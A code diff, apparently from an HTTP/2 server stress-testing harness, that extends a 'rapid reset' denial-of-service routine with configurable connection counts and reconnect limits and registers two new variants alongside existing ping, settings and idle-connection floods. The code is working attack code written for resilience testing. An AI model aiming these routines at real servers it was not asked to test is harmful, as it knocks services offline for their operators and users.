@@ -128,17 +128,27 @@ def _idle(address: str, seconds: float, *, preface: bool) -> None:
             pass
 
 
-def _reset(address: str, seconds: float) -> None:
-    """Make calls and take them back at once."""
-    with Connections(address, 8) as connections:
-        streams = {n: itertools.count(1, 2) for n in range(8)}
-        for n, connection in zip(itertools.cycle(range(8)), connections.rounds(seconds)):
+def _reset(address: str, seconds: float, *, count: int = 8, most: int | None = None) -> None:
+    """Make calls and take them back at once.
+
+    Args:
+        address: of the server.
+        seconds: how long.
+        count: connections.
+        most: calls on a connection, which is then opened anew; None: until the server closes it.
+    """
+    with Connections(address, count) as connections:
+        calls = [0] * count
+        for n, connection in zip(itertools.cycle(range(count)), connections.rounds(seconds)):
             if connection.sent == 0:
-                streams[n] = itertools.count(1, 2)
-            few = itertools.islice(streams[n], 100)
+                calls[n] = 0
+            few = range(2 * calls[n] + 1, 2 * calls[n] + 201, 2)
+            calls[n] += len(few)
             connection.send(
                 b"".join(frames.call(k, SUBMIT, more=b"\x00") + frames.reset(k) for k in few)
             )
+            if most is not None and calls[n] >= most:
+                connection.close()
 
 
 def _flood(unit: bytes, address: str, seconds: float, *, first: bytes = b"") -> None:
@@ -187,6 +197,8 @@ ATTACKS: Mapping[str, Attack] = MappingProxyType(
         "silent connections": partial(_idle, preface=False),
         "idle connections": partial(_idle, preface=True),
         "rapid reset": _reset,
+        "rapid reset, many connections": partial(_reset, count=100),
+        "rapid reset, new connections": partial(_reset, most=1_000),
         "pings": partial(_flood, frames.frame(Kind.PING, payload=bytes(8))),
         "settings": partial(_flood, frames.settings(window=65_535)),
         "headers without an end": partial(
